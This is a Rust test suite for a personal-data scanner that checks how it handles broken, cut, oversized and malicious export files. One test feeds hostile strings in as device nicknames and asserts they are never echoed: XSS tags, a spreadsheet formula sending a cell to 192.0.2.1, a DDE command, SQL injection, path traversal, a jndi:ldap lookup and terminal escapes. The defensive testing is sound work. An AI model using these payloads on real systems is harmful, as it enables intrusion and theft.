//! Broken, lying and malicious input: every entry ends with an outcome, nothing panics, nothing is silently dropped,
//! and what can be found is found.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, clippy::cast_lossless)]

mod support;
#[path = "support/archive.rs"]
mod archive;

use archive::{Odd, gzip, tar, zip};
use spillcheck::model::{EntryOutcome, FormatKind, Why};
use support::{Kept, fixtures, scan};

const MAIL: &str = "planted.mail@example.com";

fn one(name: &str, content: impl Into<Vec<u8>>) -> Vec<(String, Vec<u8>)> {
    vec![(name.to_owned(), content.into())]
}

fn has_mail(kept: &Kept) -> bool {
    kept.findings.values().any(|finding| finding.class.id() == "contact.email")
}

fn record() -> String {
    format!("{{\"user\":{{\"email\":\"{MAIL}\"}}}}")
}

/// The outcome of the only entry, and whether the planted address was found.
#[track_caller]
fn check(name: &str, content: impl Into<Vec<u8>>, outcome: &str, is_found: bool) {
    let (kept, scanned) = scan(&one(name, content));
    let outcomes: Vec<&str> = kept.entries.iter().map(|entry| entry.outcome.as_str()).collect();
    assert_eq!(outcomes, [outcome], "{:?}", kept.entries);
    assert_eq!(has_mail(&kept), is_found);
    let is_clean = scanned.summary.is_complete();
    assert!(is_found || !is_clean || outcome == "empty", "what was not read is never clean");
}

/// Whether a file is said to end in the middle, and its reading to be incomplete.
#[track_caller]
fn check_unfinished(name: &str, content: impl Into<Vec<u8>>, is_unfinished: bool) {
    let (kept, scanned) = scan(&one(name, content));
    let [entry] = &kept.entries[..] else { panic!("{:?}", kept.entries) };
    assert_eq!(entry.outcome.as_str(), "read");
    assert_eq!(entry.is_unfinished(), is_unfinished, "{:?}", entry.notes);
    assert_eq!(scanned.summary.n_unfinished, u64::from(is_unfinished));
    assert_eq!(scanned.summary.is_complete(), !is_unfinished);
}

#[test]
fn a_file_that_ends_in_the_middle_is_not_read_to_its_end() {
    let record = record();
    check_unfinished("whole.json", record.clone(), false);
    check_unfinished("cut.json", &record.as_bytes()[..record.len() - 3], true);
    check_unfinished("cut.json", "[", true);
    check_unfinished("cut.json", "{\"devices\":", true);
    check_unfinished("cut.ndjson", format!("{record}\n{record}\n{{\"user\":{{\"em"), true);
    check_unfinished("whole.xml", "<export><user mail='pat@example.com'/></export>", false);
    check_unfinished("cut.xml", "<export><user mail='pat@example.com'/><user>", true);
    check_unfinished("whole.csv", "name,mail\n\"Pat\",\"x\"", false);
    check_unfinished("cut.csv", "name,mail\n\"Pat\",\"x\"\n\"Kim\",\"y", true);
    check_unfinished("whole.html", "<html><body><p>pat@example.com</p></body></html>", false);
    check_unfinished("cut.html", "<html><body><p>pat@example.com</p>", true);
    check_unfinished("cut.vcf", "BEGIN:VCARD\nVERSION:3.0\nFN:Pat Example\n", true);
}

#[test]
fn broken_text_keeps_its_address() {
    let record = record();
    check("cut.json", &record.as_bytes()[..record.len() - 3], "read", true);
    check("wrong.csv", record.clone(), "read", true);
    check("wrong.zip", record.clone(), "read", true);
    check("bom.json", [b"\xef\xbb\xbf", record.as_bytes()].concat(), "read", true);
    check("single.json", record.replace('"', "'"), "read", true);
    check("deep.json", format!("{}{record}{}", "{\"a\":".repeat(5_000), "}".repeat(5_000)), "read", true);
    check("unclosed.csv", format!("name,mail\n\"Pat,{MAIL}\nSam,sam@example.com\n"), "read", true);
    check("surrogate.json", format!("[\"\\ud800\",\"{MAIL}\"]"), "read", true);
    check("bad.xml", format!("<a b='{MAIL}><c>"), "read", true);
    check("bytes.txt", [b"\xfd\xfa mail ".as_slice(), MAIL.as_bytes()].concat(), "read", true);
}

#[test]
fn utf_16_is_text() {
    let little: Vec<u8> =
        format!("\u{feff}name,mail\r\nPat,{MAIL}\r\n").encode_utf16().flat_map(u16::to_le_bytes).collect();
    check("little.csv", little, "read", true);
    let big: Vec<u8> = format!("\u{feff}{}", record()).encode_utf16().flat_map(u16::to_be_bytes).collect();
    check("big.json", big, "read", true);
}

#[test]
fn nothing_is_not_a_finding() {
    check("empty.json", "", "empty", false);
    check("braces.json", "{}", "empty", false);
    check("header.csv", "name,email,phone\n", "empty", false);
    check("picture.json", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), "skipped", false);
    check("book.txt", b"%PDF-1.7 planted.mail@example.com".to_vec(), "skipped", false);
    check("packed.7z", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), "skipped", false);
}

#[test]
fn every_kind_of_archive_is_opened() {
    let record = record();
    let plain = Odd::default();
    check("a.zip", zip(&[("a.json", record.as_bytes(), plain)]), "read", true);
    check("a.json.gz", gzip(record.as_bytes()), "read", true);
    check("a.tar", tar(&[("a.json", record.as_bytes())]), "read", true);
    check("a.tgz", gzip(&tar(&[("a.json", record.as_bytes())])), "read", true);
    let inner = zip(&[("a.json", record.as_bytes(), plain)]);
    check("outer.zip", zip(&[("inner.zip", &inner, Odd { is_stored: true, ..plain })]), "read", true);
    let too_deep = zip(&[("b.zip", &zip(&[("c.zip", &zip(&[("d.zip", &inner, plain)]), plain)]), plain)]);
    let (kept, _) = scan(&one("deep.zip", too_deep));
    assert!(matches!(kept.entries[0].outcome, EntryOutcome::Skipped(Why::ArchiveTooDeep)));
}

#[test]
fn one_bad_entry_costs_one_entry() {
    let record = record();
    let plain = Odd::default();
    let bytes = zip(&[
        ("locked.json", record.as_bytes(), Odd { is_encrypted: true, ..plain }),
        ("odd.json", record.as_bytes(), Odd { method: Some(77), ..plain }),
        ("sum.json", record.as_bytes(), Odd { has_wrong_checksum: true, ..plain }),
        ("good.json", b"{\"ssid\":\"Example WiFi\"}", plain),
    ]);
    let (kept, scanned) = scan(&one("mixed.zip", bytes));
    let outcomes: Vec<Option<Why>> = kept.entries.iter().map(|entry| entry.outcome.why()).collect();
    assert_eq!(outcomes, [Some(Why::Encrypted), Some(Why::Method(77)), Some(Why::Checksum), None]);
    assert!(has_mail(&kept), "what was read before the checksum counts");
    assert!(kept.findings.values().any(|finding| finding.class.id() == "net.ssid"));
    assert!(!scanned.summary.is_complete());
}

#[test]
fn what_cannot_be_unpacked_still_says_whose_it_is() {
    for (name, provider) in [
        ("export_100000001/messaging.json.gz", "strava"),
        ("export_100000001/activities/11.gpx.gz", "strava"),
        ("Takeout/Fitbit/Global Export Data/weight-2026-01-01.json.gz", "fitbit"),
    ] {
        let mut bytes = gzip(record().as_bytes());
        bytes[10] = 0xff;
        let (kept, _) = scan(&one(name, bytes));
        let told: Vec<_> = kept.entries.iter().map(|entry| (&entry.provider, entry.outcome.as_str())).collect();
        assert!(matches!(told[..], [(Some(id), "failed")] if id.0 == provider), "{name}: {told:?}");
    }
}

#[test]
fn two_entries_of_one_name_are_both_read() {
    let plain = Odd::default();
    let bytes = zip(&[("a.json", b"{\"ssid\":\"Example WiFi\"}", plain), ("a.json", record().as_bytes(), plain)]);
    let (kept, _) = scan(&one("twins.zip", bytes));
    assert_eq!(kept.entries.len(), 2);
    assert!(has_mail(&kept));
}

#[test]
fn a_cut_zip_is_salvaged() {
    let plain = Odd::default();
    let whole = zip(&[("a.json", record().as_bytes(), plain), ("b.json", &[b' '; 500], plain)]);
    let (kept, scanned) = scan(&one("cut.zip", &whole[..whole.len() - 60]));
    assert!(has_mail(&kept));
    assert!(kept.entries.iter().any(|entry| entry.notes.iter().any(|note| note.to_string().contains("cut"))));
    assert!(scanned.summary.n_entries() > 0);
}

#[test]
fn a_bomb_is_refused_in_little_time() {
    let zeros = vec![b'0'; 8 << 20];
    let bomb = zip(&[("zeros.txt", &zeros, Odd::default())]);
    let limits = spillcheck::engine::Limits { unpacked_floor: 1 << 20, ..Default::default() };
    let files = one("bomb.zip", bomb);
    let (kept, scanned) = support::scan_with(&files, &limits, |content| Box::new(std::io::Cursor::new(content)));
    assert_eq!(kept.entries[0].outcome, EntryOutcome::Failed(Why::TooLarge));
    assert!(!scanned.summary.is_complete());
}

#[test]
fn a_login_page_saved_as_an_archive_is_told_by_its_content() {
    let (kept, _) =
        scan(&one("export.zip", "<!doctype html><html><title>Sign in</title><form><input name=q></form></html>"));
    assert_eq!(kept.entries[0].kind, FormatKind::Html);
}

#[test]
fn every_cut_and_flip_of_every_fixture_ends_with_outcomes() {
    for fixture in fixtures() {
        for (name, content) in fixture.files.iter().filter(|(_, content)| content.len() > 1) {
            for round in 1..=12 {
                let at = content.len() * round / 13;
                assert_ends(name, &content[..at]);
                let mut flipped = content.clone();
                flipped[at] ^= 0x5a;
                assert_ends(name, &flipped);
            }
        }
    }
}

#[test]
fn every_cut_and_flip_of_a_zip_ends_with_outcomes() {
    let record = record();
    let whole = zip(&[
        ("a.json", record.as_bytes(), Odd::default()),
        ("b.csv", b"name,mail\nPat,p@example.com\n", Odd { is_stored: true, ..Odd::default() }),
    ]);
    for at in 0..whole.len() {
        assert_ends("cut.zip", &whole[..at]);
        let mut flipped = whole.clone();
        flipped[at] ^= 0xff;
        assert_ends("flipped.zip", &flipped);
    }
}

#[track_caller]
fn assert_ends(name: &str, content: &[u8]) {
    let (kept, scanned) = scan(&one(name, content));
    assert!(!kept.entries.is_empty(), "{name} has an outcome");
    assert_eq!(scanned.summary.n_entries(), kept.entries.len() as u64);
}

#[test]
fn the_progress_of_a_zip_grows_with_what_is_read_and_not_with_where() {
    let many: Vec<u8> =
        (0_u64..400_000).flat_map(|idx| format!("{{\"a\":{idx},\"b\":\"{:x}\"}}\n", idx * 7919).into_bytes()).collect();
    let bytes = zip(&[("many.jsonl", &many, Odd::default())]);
    let (kept, _) = scan(&one("many.zip", bytes));
    let early = kept.beats.iter().filter(|read| **read > 0).count();
    assert!(early >= 4, "it was told several times: {:?}", kept.beats);
    assert!(kept.beats.first() < kept.beats.last(), "{:?}", kept.beats);
    assert!(kept.beats.windows(2).all(|pair| pair[0] <= pair[1]), "it never goes back");
}

/// Classes found in one file, and everything of the scan that is shown.
fn told(name: &str, content: impl Into<Vec<u8>>) -> (Vec<&'static str>, String) {
    let (kept, _) = scan(&one(name, content));
    assert_eq!(kept.entries.len(), 1, "{:?}", kept.entries);
    let mut shown = vec![kept.entries[0].name.to_string()];
    let mut classes = Vec::new();
    for finding in kept.findings.values() {
        classes.push(finding.class.id());
        shown.extend(finding.samples.iter().map(ToString::to_string));
        shown.extend(finding.place.entries.iter().map(ToString::to_string));
        shown.extend([finding.place.path.to_string(), finding.evidence.sentence()]);
    }
    (classes, shown.join("\n"))
}

/// Nothing that steers a terminal or turns the direction of a line.
#[track_caller]
fn assert_inert(shown: &str) {
    let steers = |sign: char| {
        (sign.is_control() && sign != '\n')
            || matches!(sign, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    };
    // A joiner between two pictures makes them one, and steers nothing.
    let shown = shown.replace("👩\u{200d}👩\u{200d}👧", "");
    assert_eq!(shown.chars().find(|sign| steers(*sign)), None, "{}", shown.escape_debug());
}

#[test]
fn a_key_of_a_megabyte_costs_only_itself() {
    let key = "long_key_".repeat((1 << 20) / 9);
    check("key.json", format!("{{\"{key}\":\"a\",\"email\":\"{MAIL}\"}}"), "read", true);
    check("under.json", format!("{{\"{key}\":{{\"email\":\"{MAIL}\"}}}}"), "read", true);
    check("value.json", format!("{{\"{key}\":\"{MAIL}\"}}"), "read", true);
    check("header.csv", format!("{key},email\na,{MAIL}\n"), "read", true);
    check("attribute.xml", format!("<a {key}=\"b\" email=\"{MAIL}\"/>"), "read", true);
    check("element.xml", format!("<a><{key}>b</{key}><email>{MAIL}</email></a>"), "read", true);
    check("line.ini", format!("[account]\n{key} = a\nemail = {MAIL}\n"), "read", true);
    for name in ["key.json", "header.csv", "attribute.xml", "line.ini"] {
        let content = match name {
            "key.json" => format!("{{\"{key}ssid\":\"Example WiFi\",\"{key}\":\"{MAIL}\"}}"),
            "header.csv" => format!("{key}ssid,{key}\nExample WiFi,{MAIL}\n"),
            "attribute.xml" => format!("<a {key}ssid=\"Example WiFi\" {key}=\"{MAIL}\"/>"),
            _ => format!("{key}ssid = Example WiFi\n{key} = {MAIL}\n"),
        };
        let (_, shown) = told(name, content);
        assert!(shown.len() < 4_096, "{name}: {} bytes are shown", shown.len());
    }
}

#[test]
fn keys_and_values_of_signs_alone_end_with_an_outcome() {
    let signs = [
        "\u{301}".repeat(10_000),
        "\u{202e}\u{2066}\u{200f}".repeat(500),
        "👩\u{200d}👩\u{200d}👧".repeat(300),
        "ﷺ".repeat(500),
        // Without enough text around them, they make the file one of no known kind.
        format!("{}\u{1}\u{1b}[2J\u{7f}", "Nothing of interest stands here. ".repeat(20)),
        "\u{feff}\u{200b}".repeat(400),
    ];
    for sign in &signs {
        for content in [
            ("a.json", format!("{{\"{sign}\":\"{MAIL}\",\"nickname\":\"{sign}\",\"ssid\":\"{sign}\"}}")),
            ("a.csv", format!("{sign},email,ssid\n{sign},{MAIL},{sign}\n")),
            ("a.xml", format!("<a b=\"{sign}\" email=\"{MAIL}\">{sign}</a>")),
            ("a.ini", format!("[{sign}]\n{sign} = {sign}\nemail = {MAIL}\nssid = {sign}\n")),
        ] {
            let (classes, shown) = told(content.0, content.1);
            assert!(classes.contains(&"contact.email"), "{}: {classes:?}", content.0);
            assert_inert(&shown);
        }
    }
}

#[test]
fn nul_bytes_do_not_end_a_text() {
    check("nul.json", format!("{{\"a\":\"x\0y\",\"email\":\"{MAIL}\"}}"), "read", true);
    check("escaped.json", format!("{{\"a\\u0000\":\"x\\u0000y\",\"email\":\"{MAIL}\"}}"), "read", true);
    check("nul.csv", format!("a,email\nx\0y,{MAIL}\n"), "read", true);
    check("nul.xml", format!("<a b=\"x\0y\" email=\"{MAIL}\"/>"), "read", true);
    let (_, shown) = told("nul.json", format!("{{\"ssid\":\"Ex\\u0000\\u001bWiFi\\u0007\",\"email\":\"{MAIL}\"}}"));
    assert_inert(&shown);
}

#[test]
fn a_network_may_be_called_anything() {
    for ssid in ["📶🏠 Wi-Fi 📶", "Pretty Fly for a WiFi", "FRITZ!Box 7590 ÄÖ", "\\u202eiFiW"] {
        let (classes, shown) = told("a.json", format!("{{\"wifi\":{{\"ssid\":\"{ssid}\",\"rssi\":-61}}}}"));
        assert_eq!(classes, ["net.ssid"], "{ssid}");
        assert_inert(&shown);
        let (classes, _) = told("a.csv", format!("ssid,channel\n{ssid},6\n"));
        assert_eq!(classes, ["net.ssid"], "{ssid}");
    }
}

#[test]
fn a_network_that_looks_like_an_address_is_a_network() {
    for (name, content) in
        [("a.json", "{\"wifi\":{\"ssid\":\"cafe@home.example\"}}"), ("a.csv", "ssid,channel\ncafe@home.example,6\n")]
    {
        let (classes, _) = told(name, content);
        assert!(classes.contains(&"net.ssid"), "{name}: {classes:?}");
    }
}

#[test]
fn a_huge_first_cell_makes_a_table_text() {
    // Known: what a file is, is told by its first 64 KiB, and there this is no table. It is said, and searched as text.
    let long = "Nothing of interest, and so it goes on. ".repeat(50_000);
    let content = format!("email,note,ssid\n{MAIL},\"{long}\",Example WiFi\n");
    let (kept, _) = scan(&one("long.csv", content));
    assert!(has_mail(&kept));
    assert_eq!(kept.entries[0].outcome.as_str(), "read");
    assert!(kept.entries[0].notes.iter().any(|note| note.to_string().contains("plain text")), "{:?}", kept.entries);
    assert!(kept.findings.values().all(|finding| finding.class.id() != "net.ssid"));
}

#[test]
fn a_nickname_is_never_more_than_text() {
    for nickname in [
        "<script>alert(1)</script>",
        "=HYPERLINK('https://192.0.2.1/?'&A1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'; DROP TABLE devices; --",
        "../../../../etc/passwd",
    ] {
        let (classes, shown) = told("a.json", format!("{{\"devices\":[{{\"nickname\":\"{nickname}\"}}]}}"));
        assert!(classes.contains(&"dev.nickname"), "{nickname}: {classes:?}");
        assert!(!shown.contains(nickname), "{shown}");
        assert_inert(&shown);
        let (classes, shown) = told("a.csv", format!("nickname,on\n\"{nickname}\",1\nHall lamp,0\n"));
        assert!(classes.contains(&"dev.nickname"), "{nickname}: {classes:?}");
        assert!(!shown.contains(nickname), "{shown}");
    }
    // What is left of a template is a value that was never filled in, and no nickname.
    for template in ["${jndi:ldap://192.0.2.1/a}", "%s%n{{7*7}}"] {
        let (_, shown) = told("a.json", format!("{{\"devices\":[{{\"nickname\":\"{template}\"}}]}}"));
        assert!(!shown.contains(template) && !shown.contains("49"), "{shown}");
    }
    // Names of files and keys are text of others, too.
    let (_, shown) = told("<img src=x onerror=alert(1)>\u{1b}[31m.json", record());
    assert_inert(&shown);
}
